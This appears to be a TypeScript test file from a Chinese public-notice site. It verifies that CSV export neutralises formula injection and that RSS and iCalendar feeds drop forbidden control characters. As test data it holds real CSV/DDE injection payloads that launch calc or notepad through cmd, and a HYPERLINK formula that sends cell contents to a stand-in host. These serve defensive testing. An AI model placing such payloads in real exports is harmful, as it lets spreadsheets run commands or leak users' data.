/**
 * Hostile corpus, output: a text that a spreadsheet would run as a formula stays text in every CSV
 * cell (OWASP CSV injection), and no feed, calendar or sitemap carries a character XML 1.0 forbids,
 * even when a record reached the view without passing the schema.
 */
import { getRssString } from '@astrojs/rss';
import { describe, expect, it } from 'vitest';
import Parser from 'rss-parser';
import type { Dataset } from '../../../src/domain/dataset.ts';
import { csvField, toCsv } from '../../../src/view/csv.ts';
import { feedSubjects, rssOptions } from '../../../src/view/feeds.ts';
import { publicityCalendar, escapeText } from '../../../src/view/ical.ts';
import { tableCsv, TABLES } from '../../../src/view/open-data.ts';
import { xmlSafe, xmlText } from '../../../src/view/xml-text.ts';
import { example } from '../../fixtures/examples.ts';
import { exampleDataset } from '../../fixtures/example-dataset.ts';

const HYPERLINK = '=HYPERLINK("https://e.example/"&A1,"点击")';

describe('CSV cells that would start a formula', () => {
  it.each([
    ['an equals sign', HYPERLINK],
    ['a plus sign', '+1+cmd|\' /C calc\'!A0'],
    ['a minus sign', '-2+3'],
    ['an at sign', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['spaces before the equals sign', '  =1+1'],
    ['an ideographic space before it', '\u3000=1+1'],
    ['a full-width equals sign', '＝1+1'],
    ['a full-width plus sign', '＋1'],
    ['a full-width minus sign', '－1'],
    ['a full-width at sign', '＠SUM(A1)'],
    ['DDE', '=cmd|\' /C notepad\'!\'A1\''],
  ])('are prefixed with an apostrophe when they start with %s', (_name, text) => {
    const field = csvField(text);
    const unquoted = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
    expect(unquoted).toBe(`'${text}`);
  });

  it.each([['林晓川'], ['2026-11-20'], ['GS-7K3Q9M2X'], ['A=B'], ['甲-乙'], ['https://example.gov.cn/a?b=c']])('leaves ordinary text %s alone', (text) => {
    expect(csvField(text)).toBe(text);
  });

  it('leaves negative numbers as numbers', () => {
    expect(csvField(-3)).toBe('-3');
    expect(toCsv(['分差'], [[-0.5]])).toBe('\uFEFF分差\r\n-0.5\r\n');
  });

  it('keeps a quoted formula quoted and prefixed', () => {
    expect(csvField('=1,2')).toBe('"\'=1,2"');
  });

  it('neutralises an examiner named =HYPERLINK(…) in the published scores table', () => {
    const exam = example('examinations') as { examiners: Record<string, unknown>[] };
    const ds = exampleDataset({
      overrides: { 'examinations/ks-1.yaml': { ...exam, examiners: [{ ...exam.examiners[0], name: HYPERLINK }, ...exam.examiners.slice(1)] } },
    });
    const csv = tableCsv(TABLES.find((t) => t.file === 'examination-scores.csv')!, ds);
    expect(csv).toContain(`"'=HYPERLINK(""https://e.example/""&A1,""点击"")"`);
    // No cell of any line begins with = outside quotes.
    for (const line of csv.split('\r\n')) expect(line.split(',').some((cell) => /^[=+@]/.test(cell))).toBe(false);
  });
});

/** Characters XML 1.0 forbids, one of each class. */
const FORBIDDEN = ['\u0000', '\u0001', '\u0008', '\u000B', '\u000C', '\u001B', '\u001F', '\uFFFE', '\uFFFF', '\uD800', '\uDFFF'];
const NOT_XML = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;

describe('XML text', () => {
  it.each(FORBIDDEN.map((c) => [`U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`, c]))('drops %s', (_name, c) => {
    expect(xmlText(`林${c}晓川`)).toBe('林晓川');
  });

  it('keeps tab, line breaks, Chinese, emoji and characters outside the BMP', () => {
    const s = '甲\t乙\n丙\r\n𠀀😀';
    expect(xmlText(s)).toBe(s);
  });

  it('drops the C1 controls and DEL XML discourages', () => {
    expect(xmlText('a\u007Fb\u0085c\u009Fd')).toBe('abcd');
  });

  it('walks objects and arrays but keeps dates', () => {
    const date = new Date('2026-01-01T00:00:00Z');
    expect(xmlSafe({ a: ['x\u0000'], d: date, n: 1 })).toEqual({ a: ['x'], d: date, n: 1 });
  });
});

/** The example dataset with control characters forced into texts the schema would refuse, as if a record bypassed it. */
function poisoned(): Dataset {
  const ds = exampleDataset();
  const bad = `\u0000\u001B\uFFFF\uD800`;
  const pub = ds.byKind.publicities.values().next().value!;
  pub.data.title = `任前公示${bad}`;
  pub.data.candidates[0]!.proposedPost = `拟任副局长${bad}`;
  const person = ds.byKind.people.get('lin-xc')!;
  person.data.name = `林${bad}晓川`;
  ds.site.name = `望川市${bad}公示网`;
  return ds;
}

describe('feeds and calendars never carry a forbidden character', () => {
  it('every RSS feed of a poisoned dataset is well-formed XML without one', async () => {
    const ds = poisoned();
    const parser = new Parser();
    const subjects = feedSubjects(ds);
    expect(subjects.length).toBeGreaterThan(5);
    for (const subject of subjects) {
      const xml = await getRssString(rssOptions(ds, subject));
      expect(NOT_XML.test(xml), JSON.stringify(subject)).toBe(false);
      await expect(parser.parseString(xml)).resolves.toBeDefined();
    }
    const all = await getRssString(rssOptions(ds, { type: 'all' }));
    expect(all).toContain('林晓川');
  });

  it('the iCalendar feed of a poisoned dataset has no control character but CR LF', () => {
    const ics = publicityCalendar(poisoned());
    expect(ics).toContain('BEGIN:VEVENT');
    expect(/[\u0000-\u0008\u000B-\u000C\u000E-\u001F\u007F\uFFFE\uFFFF]/.test(ics)).toBe(false);
    expect(/[\uD800-\uDFFF]/u.test(ics)).toBe(false);
  });

  it('escapes an iCalendar text and drops its controls', () => {
    expect(escapeText('甲,乙;丙\\\u0000丁\n')).toBe('甲\\,乙\\;丙\\\\丁\\n');
  });
});
